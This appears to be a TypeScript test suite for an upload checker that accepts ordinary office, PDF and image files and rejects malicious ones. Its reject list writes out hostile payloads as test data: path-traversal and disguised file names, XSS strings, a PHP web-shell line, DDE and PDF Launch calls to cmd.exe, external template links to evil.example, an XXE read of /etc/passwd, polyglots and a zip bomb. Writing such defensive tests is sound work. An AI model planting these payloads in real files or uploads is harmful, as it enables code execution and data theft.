import { describe, expect, it } from 'vitest';
import JSZip from 'jszip';
import { compoundFile } from '../testing/compound-file.ts';
import { bmp, heic, jpeg, ofd, office, pdf, png, relations, segment, tiff } from '../testing/samples.ts';
import { declareSize } from '../testing/zip-forgery.ts';
import { writeLedgerWorkbook } from '../ledger/write-ledger.ts';
import { checkUpload, MAX_UPLOAD_BYTES } from './check-upload.ts';
import { cleanFileName } from './file-name.ts';

type Bytes = Uint8Array | Promise<Uint8Array>;
const join = (...parts: (Uint8Array | string)[]): Uint8Array => Buffer.concat(parts.map((part) => Buffer.from(part as string, 'latin1'))); // prettier-ignore
const word = compoundFile(['Root Entry', '1Table', 'WordDocument']);
const excel = compoundFile(['Root Entry', 'Workbook']);
const slides = compoundFile(['Root Entry', 'PowerPoint Document', 'Current User', 'Pictures', 'x']);
const zip = (files: Record<string, string | Uint8Array>): Promise<Uint8Array> => {
  const archive = new JSZip();
  for (const [name, content] of Object.entries(files)) archive.file(name, content, { createFolders: false });
  return archive.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
};
const ledger = { title: '台账', bodyName: '市科协', filledOn: '2024-06-18', findings: [] };
const instr = (...runs: string[]): string =>
  `<w:document xmlns:w="w">${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}</w:document>`;

const GOOD: [name: string, bytes: Bytes, mediaType: RegExp][] = [
  ['会议纪要.pdf', pdf(), /pdf/],
  ['扫描件.PDF', pdf('', '1.7'), /pdf/],
  ['签名后.pdf', join(pdf(), '4 0 obj<<>>endobj\nstartxref\n20\n%%EOF\r\n'), /pdf/],
  ['末尾空白.pdf', join(pdf(), '\n\n\0\0'), /pdf/],
  ['含链接.pdf', pdf('5 0 obj<</A<</S/URI/URI(http://www.gov.cn)>>>>endobj\n'), /pdf/],
  ['整改报告.2024.6.18.pdf', pdf(), /pdf/],
  ['www.kexie.com.pdf', pdf(), /pdf/],
  ['〔2024〕7号 关于印发《办法》的通知（定稿）.docx', office('docx'), /wordprocessing/],
  ['带公式.docx', office('docx', { 'word/embeddings/oleObject1.bin': compoundFile(['Root Entry', 'Equation Native']) }), /wordprocessing/], // prettier-ignore
  ['带链接.docx', office('docx', { 'word/_rels/document.xml.rels': relations('hyperlink', 'http://www.gov.cn', true) }), /wordprocessing/], // prettier-ignore
  ['带图表.docx', office('docx', { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' }), /wordprocessing/],
  ['目录.docx', office('docx', { 'word/document.xml': instr('TOC \\o', ' PAGE ', 'HYPERLINK "x"') }), /wordprocessing/],
  ['台账.xlsx', writeLedgerWorkbook(ledger), /spreadsheet/],
  ['表.XLSX', office('xlsx'), /spreadsheet/],
  ['引用他表.xlsx', office('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>', 'xl/externalLinks/_rels/externalLink1.xml.rels': relations('externalLinkPath', 'a.xlsx', true) }), /spreadsheet/], // prettier-ignore
  ['课件.pptx', office('pptx'), /presentation/],
  ['发票.ofd', ofd(), /ofd/],
  ['老文件.doc', word, /msword/],
  ['老表.xls', excel, /excel/],
  ['更老的表.xls', compoundFile(['Root Entry', 'Book']), /excel/],
  ['老课件.ppt', slides, /powerpoint/],
  ['公文.wps', word, /works/],
  ['表格.et', excel, /excel/],
  ['演示.dps', slides, /powerpoint/],
  ['照片.jpg', jpeg(), /jpeg/],
  ['照片.jpeg', jpeg(16_320, 12_240), /jpeg/],
  ['手机拍照.JPG', jpeg(4_000, 3_000, segment(0xe1, 'Exif\0\0II*\0GPS')), /jpeg/],
  ['带备注.jpg', jpeg(10, 10, segment(0xfe, 'scanned by office')), /jpeg/],
  ['动态照片.jpg', join(jpeg(), '\0\0\0\u0018ftypmp42moov'), /jpeg/],
  ['截图.png', png(), /png/],
  ['截图 2.png', png(1_366, 768, '<x:xmpmeta xmlns:x="adobe:ns:meta/"/>'), /png/],
  ['扫描.bmp', bmp(), /bmp/],
  ['倒置.bmp', bmp(8, -8), /bmp/],
  ['传真.tif', tiff(true), /tiff/],
  ['传真.tiff', tiff(false), /tiff/],
  ['IMG_0001.HEIC', heic(), /heic/],
  ['IMG_0002.heif', heic('mif1'), /heic/],
  ['会议\u0065\u0301.pdf', pdf(), /pdf/],
  [`${'长'.repeat(200)}.pdf`, pdf(), /pdf/],
  [' 首尾空格.pdf ', pdf(), /pdf/],
];

const BAD: [code: string, name: string, bytes: Bytes][] = [
  // names
  ['NAME_INVALID', '', pdf()],
  ['NAME_INVALID', '\u202efdp.exe', pdf()],
  ['NAME_INVALID', '报告\u202efdp.pdf', pdf()],
  ['NAME_INVALID', '报告\u0000.pdf', pdf()],
  ['NAME_INVALID', '报告\n.pdf', pdf()],
  ['NAME_INVALID', '零宽\u200b.pdf', pdf()],
  ['NAME_INVALID', '../../etc/passwd.pdf', pdf()],
  ['NAME_INVALID', '..\\..\\a.pdf', pdf()],
  ['NAME_INVALID', 'C:\\fakepath\\a.pdf', pdf()],
  ['NAME_INVALID', 'con.pdf', pdf()],
  ['NAME_INVALID', '.htaccess.pdf', pdf()],
  ['NAME_INVALID', '报告.pdf.', pdf()],
  ['NAME_INVALID', '报告.pdf::$DATA', pdf()],
  ['NAME_INVALID', '<img src=x>.pdf', pdf()],
  ['NAME_INVALID', `\ud800.pdf`, pdf()],
  ['NAME_TOO_LONG', `${'a'.repeat(300)}.pdf`, pdf()],
  ['NAME_DISGUISED', '通知.exe.pdf', pdf()],
  ['NAME_DISGUISED', '通知.html.pdf', pdf()],
  ['NAME_DISGUISED', '通知.Svg .pdf', pdf()],
  ['NAME_DISGUISED', '通知．exe.pdf', pdf()],
  ['EXTENSION_NOT_ALLOWED', '通知.pdf.exe', pdf()],
  ['EXTENSION_NOT_ALLOWED', '没有后缀', pdf()],
  ['EXTENSION_NOT_ALLOWED', '通知．pdf', pdf()],
  ...['html', 'svg', 'xml', 'js', 'zip', 'rar', '7z', 'docm', 'xlsm', 'pptm', 'dotm', 'gif', 'txt', 'mp4', 'php'].map(
    (suffix): [string, string, Bytes] => ['EXTENSION_NOT_ALLOWED', `文件.${suffix}`, pdf()],
  ),
  // contents
  ['FILE_EMPTY', '空.pdf', new Uint8Array()],
  ['FILE_TOO_LARGE', '大.pdf', new Uint8Array(MAX_UPLOAD_BYTES + 1)],
  ['CONTENT_UNKNOWN', '网页.pdf', join('<!DOCTYPE html><script>alert(1)</script>')],
  ['CONTENT_UNKNOWN', '矢量.png', join('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['CONTENT_UNKNOWN', '程序.pdf', join('MZ\u0090\0')],
  ['CONTENT_UNKNOWN', '测试.docx', join('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')],
  ['CONTENT_UNKNOWN', '网页另存.doc', join('<html xmlns:o="urn:schemas-microsoft-com:office:office"></html>')],
  ['CONTENT_UNKNOWN', '富文本.doc', join('{\\rtf1\\ansi}')],
  ['CONTENT_UNKNOWN', '前置.pdf', join('GIF89a', pdf())],
  ['CONTENT_UNKNOWN', '压缩包.docx', zip({ 'a.txt': 'x' })],
  ['CONTENT_UNKNOWN', '假.ofd', ofd('<html/>')],
  ['CONTENT_UNKNOWN', '两种.docx', office('docx', { 'xl/workbook.xml': '<a/>' })],
  ['CONTENT_UNKNOWN', '模板.docx', office('docx', { '[Content_Types].xml': '<Types/>' })],
  ['CONTENT_UNKNOWN', '安装包.doc', compoundFile(['Root Entry', 'SummaryInformation'])],
  ['CONTENT_MISMATCH', '照片.png', jpeg()],
  ['CONTENT_MISMATCH', '表.docx', office('xlsx')],
  ['CONTENT_MISMATCH', '文.doc', office('docx')],
  ['CONTENT_MISMATCH', '文.pdf', office('docx')],
  ['CONTENT_MISMATCH', '表.wps', excel],
  ['CONTENT_MISMATCH', '发票.docx', ofd()],
  // macros and active parts
  ['MACROS', '宏.docx', office('docx', { 'word/vbaProject.bin': 'x' })],
  ['MACROS', '宏.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' })],
  ['MACROS', '宏类型.docx', office('docx', { '[Content_Types].xml': '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' })], // prettier-ignore
  ['MACROS', '宏.doc', compoundFile(['Root Entry', 'WordDocument', 'Macros', 'VBA'])],
  ['MACROS', '宏.xls', compoundFile(['Root Entry', 'Workbook', '_VBA_PROJECT_CUR'])],
  ['ACTIVE_CONTENT', '外部模板.docx', office('docx', { 'word/_rels/settings.xml.rels': relations('attachedTemplate', 'http://evil.example/t.dotm', true) })], // prettier-ignore
  ['ACTIVE_CONTENT', '外部对象.docx', office('docx', { 'word/_rels/document.xml.rels': relations('oleObject', 'http://evil.example/x', true) })], // prettier-ignore
  ['ACTIVE_CONTENT', '控件.docx', office('docx', { 'word/activeX/activeX1.xml': '<a/>' })],
  ['ACTIVE_CONTENT', '夹带.docx', office('docx', { 'word/payload.exe': 'MZ' })],
  ['ACTIVE_CONTENT', '程序包.docx', office('docx', { 'word/embeddings/oleObject1.bin': compoundFile(['Root Entry', '\u0001Ole10Native']) })], // prettier-ignore
  ['ACTIVE_CONTENT', '程序包.doc', compoundFile(['Root Entry', 'WordDocument', 'ObjectPool', '\u0001Ole10Native'])],
  ['ACTIVE_CONTENT', 'dde.docx', office('docx', { 'word/document.xml': instr('DDE', 'AUTO c:\\\\cmd.exe') })],
  ['ACTIVE_CONTENT', 'dde.xlsx', office('xlsx', { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' })], // prettier-ignore
  ['ACTIVE_CONTENT', '脚本.pdf', pdf('4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n')],
  ['ACTIVE_CONTENT', '启动.pdf', pdf('4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n')],
  ['UNSAFE_XML', 'xxe.xlsx', office('xlsx', { 'xl/worksheets/sheet1.xml': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' })], // prettier-ignore
  [
    'UNSAFE_XML',
    'xxe16.docx',
    office('docx', { 'word/document.xml': Buffer.from('\ufeff<!DOCTYPE x><x/>', 'utf16le') }),
  ],
  // two files in one
  ['POLYGLOT', '尾随.pdf', join(pdf(), '<script>alert(1)</script>')],
  ['POLYGLOT', '网页头.pdf', join('%PDF-1.4\n<html><script>1</script>', pdf())],
  ['POLYGLOT', '图加脚本.jpg', jpeg(10, 10, segment(0xfe, '<script>alert(1)</script>'))],
  ['POLYGLOT', '图加网页.png', png(10, 10, '<html><body onload=alert(1)>')],
  ['POLYGLOT', '图尾脚本.jpg', join(jpeg(), '<?php system($_GET[0]); ?>')],
  ['FILE_DAMAGED', '图即脚本.jpg', join('\u00ff\u00d8\u00ff\u00e0\u002f\u002aJFIF\0\u0001*/=alert(1);/*', jpeg())],
  ['FILE_DAMAGED', '图尾数据.png', join(png(), 'extra')],
  // damage, sizes, bombs
  ['ENCRYPTED', '加密.docx', compoundFile(['Root Entry', 'EncryptionInfo', 'EncryptedPackage'])],
  ['ENCRYPTED', '加密.pdf', pdf('trailer<</Encrypt 5 0 R>>\n')],
  ['FILE_DAMAGED', '截断.pdf', pdf().slice(0, 60)],
  ['FILE_DAMAGED', '截断.jpg', jpeg().slice(0, 12)],
  ['FILE_DAMAGED', '截断.png', png().slice(0, 20)],
  ['FILE_DAMAGED', '截断.doc', word.slice(0, 700)],
  ['FILE_DAMAGED', '截断.tif', tiff(true).slice(0, 9)],
  ['FILE_DAMAGED', '短.heic', heic().slice(0, 30)],
  ['IMAGE_TOO_LARGE', '像素.png', png(60_000, 60_000)],
  ['IMAGE_TOO_LARGE', '像素.jpg', jpeg(65_000, 10)],
  ['IMAGE_TOO_LARGE', '像素.tif', tiff(false, 50_000, 50_000)],
  ['POLYGLOT', '越界.docx', office('docx', { '../../evil.xml': '<a/>' })],
  ['FILE_DAMAGED', '谎报.docx', office('docx').then((file) => declareSize(file, 'word/document.xml', 5))],
  ['ZIP_BOMB', '炸弹.docx', office('docx').then((file) => declareSize(file, 'word/document.xml', 301 * 1024 * 1024))],
];

describe('uploaded files', () => {
  it.each(GOOD)('accepts %s', async (name, bytes, mediaType) => {
    expect(await checkUpload(await bytes, name)).toMatchObject({
      ok: true,
      mediaType: expect.stringMatching(mediaType),
    });
  });

  it.each(BAD)('refuses (%s) %j', async (code, name, bytes) => {
    expect(await checkUpload(await bytes, name)).toMatchObject({
      ok: false,
      code,
      message: expect.stringMatching(/[。]$/),
    });
  });

  it('has corpora of the promised size', () => {
    expect([GOOD.length >= 30, BAD.length >= 60]).toEqual([true, true]);
  });

  it('refuses an office file with a zip, a program or a PDF glued before or behind it, or cut anywhere', async () => {
    const file = await office('docx');
    const glued = [join('MZ', file), join(pdf(), file), join(file, 'tail'), join(jpeg(), file), join(png(), file)];
    const names = ['a.docx', 'a.pdf', 'a.docx', 'a.jpg', 'a.png'];
    for (const [i, bytes] of glued.entries()) {
      expect(await checkUpload(bytes, names[i] as string), `${i}`).toMatchObject({ ok: false });
    }
    for (let length = 1; length < file.byteLength; length += 37) {
      expect(await checkUpload(file.slice(0, length), 'a.docx'), `${length}`).toMatchObject({ ok: false });
    }
  });

  it('finds a single flipped byte inside a packed part', async () => {
    const file = (await office('docx', { 'word/media/a.bin': Buffer.from('资料'.repeat(500)) })).slice();
    const at = Buffer.from(file).indexOf('a.bin') + 8;
    file[at] = (file[at] as number) ^ 0x55;
    expect(await checkUpload(file, 'a.docx')).toMatchObject({ ok: false, code: 'FILE_DAMAGED' });
  });
});

describe('cleanFileName', () => {
  it.each([
    ['报告.pdf', '报告.pdf'],
    ['C:\\fakepath\\报告.pdf', '报告.pdf'],
    ['../../etc/passwd', 'passwd'],
    ['报告\u202efdp.exe', '报告fdp.exe'],
    ['a\u0000b\r\n.pdf', 'ab.pdf'],
    ['cafe\u0301.pdf', 'café.pdf'],
    ['  多  空格 .pdf', '多 空格 .pdf'],
    ['a:b*c?.pdf', 'a_b_c_.pdf'],
    ['CON.pdf', '_CON.pdf'],
    ['...', '文件'],
    ['', '文件'],
    ['.htaccess', 'htaccess'],
  ])('%j becomes %j', (name, clean) => expect(cleanFileName(name)).toBe(clean));

  it('keeps the suffix of a long name and never exceeds 200 bytes', () => {
    const clean = cleanFileName(`${'长'.repeat(300)}.docx`);
    expect([clean.endsWith('.docx'), Buffer.byteLength(clean) <= 200, clean.isWellFormed()]).toEqual([
      true,
      true,
      true,
    ]);
  });
});
